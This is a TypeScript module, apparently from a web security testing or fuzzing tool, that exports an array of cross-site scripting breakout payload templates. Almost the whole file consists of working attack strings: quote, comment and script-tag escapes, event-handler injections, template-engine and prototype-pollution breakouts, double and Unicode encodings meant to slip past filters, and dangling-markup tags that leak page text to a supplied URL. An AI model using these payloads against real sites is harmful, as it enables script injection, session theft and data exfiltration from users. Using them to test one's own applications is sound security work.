import type { Template } from './payload-template.ts';

/** Text that ends its context: a quote, an element that holds text, a comment. */
const ENDS = ['">', "'>", '`>', '-->', ']]>', '</title>', '</style>', '</textarea>', '</noscript>', '</template>'];

const ends: readonly Template[] = ENDS.map(
  (end): Template =>
    ({ js }) =>
      `${end}<img src=x onerror=${js}>`,
);

const attributes: readonly Template[] = [
  ({ js }) => `" autofocus tabindex=0 onfocus="${js}" x="`,
  ({ js }) => `' autofocus tabindex=0 onfocus='${js}' x='`,
  ({ js }) => `x onerror=${js} `,
  ({ js }) => `x" onerror="${js}`,
  ({ js }) => `&quot; onerror=&quot;${js}`,
  ({ js }) => `a, x 1w" onerror="${js}`,
];

/** Breaks out of a script, of its strings and of JSON inside it, and into templates. */
const scripts: readonly Template[] = [
  ({ js }) => `</script><script>${js}</script>`,
  ({ js }) => `</SCRIPT\t><script>${js}</script>`,
  ({ js }) => `"}]}</script><script>${js}</script>`,
  ({ js }) => `<!--<script>${js}</script>`,
  ({ js }) => `";${js};//`,
  ({ js }) => `\\";${js};//`,
  ({ js }) => `';${js};//`,
  ({ js }) => `\`;${js};//`,
  ({ js }) => `\u2028${js}\u2029${js}//`,
  ({ js }) => `"\n${js}\r\n//`,
  ({ js }) => `*/${js}/*`,
  ({ js }) => `\${${js}}`,
  ({ js }) => `{{constructor.constructor('${js}')()}}`,
  ({ js }) => `<%= ${js} %>`,
  ({ js }) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${js}"}}`,
  ({ js }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}`,
  ({ js }) => `["SingleFetchRedirect",{"redirect":"javascript:${js}"}]`,
  ({ js }) => `__proto__"],"constructor":{"prototype":{"onload":"${js}"}}`,
];

/** Encoded so that code may decode it once too often. */
const encodings: readonly Template[] = [
  ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  ({ js }) => `&#60;img src=x onerror=${js}&#62;`,
  ({ js }) => `&LT;img src=x onerror=${js}&GT`,
  ({ js }) => `%3Cimg%20src%3Dx%20onerror%3D${js}%3E`,
  ({ js }) => `%253Cimg%2520src%253Dx%2520onerror%253D${js}%253E`,
  ({ js }) => `\\u003cimg src=x onerror=${js}\\u003e`,
  ({ js }) => `\\x3cimg src=x onerror=${js}\\x3e`,
  ({ js }) => `+ADw-img src=x onerror=${js}+AD4-`,
  ({ js }) => `\uff1cimg src=x onerror=${js}\uff1e`,
  ({ js }) => `<\u0000img src=x onerror=${js}>`,
  ({ js }) => `<i\u0000mg src=x onerror=${js}>`,
  ({ js }) => `\ufeff<img src=x onerror=${js}>`,
  ({ js }) => `\u202e<img src=x onerror=${js}>`,
  // Half of a surrogate pair: a text with one can't be encoded.
  ({ js }) => `\ud83d<img src=x onerror=${js}>\udc00`,
];

/** Markup that swallows the text after it, or sends it away. */
const dangling: readonly Template[] = [
  ({ url }) => `<img src='${url}?`,
  ({ url }) => `<a href="${url}?`,
  ({ url }) => `<a href="${url}"><font size=7>a</font></a><base target='`,
  ({ url }) => `<form action=${url}><button>a</button><textarea name=a>`,
  ({ url }) => `<button form=a formaction=${url}>a</button>`,
  ({ url }) => `<meta http-equiv=refresh content='0;url=${url}?`,
  ({ url }) => `<link rel=prefetch href=${url}><link rel=preload as=image href=${url}>`,
  ({ url }) => `<link rel=stylesheet href=${url}>`,
  ({ url }) => `<style>@import '${url}?`,
  ({ url }) => `<style>*{background:url(${url})}</style>`,
  ({ url }) => `<p style="background:url(${url})">a</p>`,
  ({ js }) => `<p style="width:expression(${js});behavior:url(x)">a</p>`,
  ({ js }) => `<style>*{background:url("javascript:${js}")}</style>`,
  ({ url }) => `<table background='${url}'><td background='${url}'>a`,
  ({ url }) => `<iframe src=${url} name='`,
];

/** Payloads that break out of any context. */
export const breakouts: readonly Template[] = [...ends, ...attributes, ...scripts, ...encodings, ...dangling];
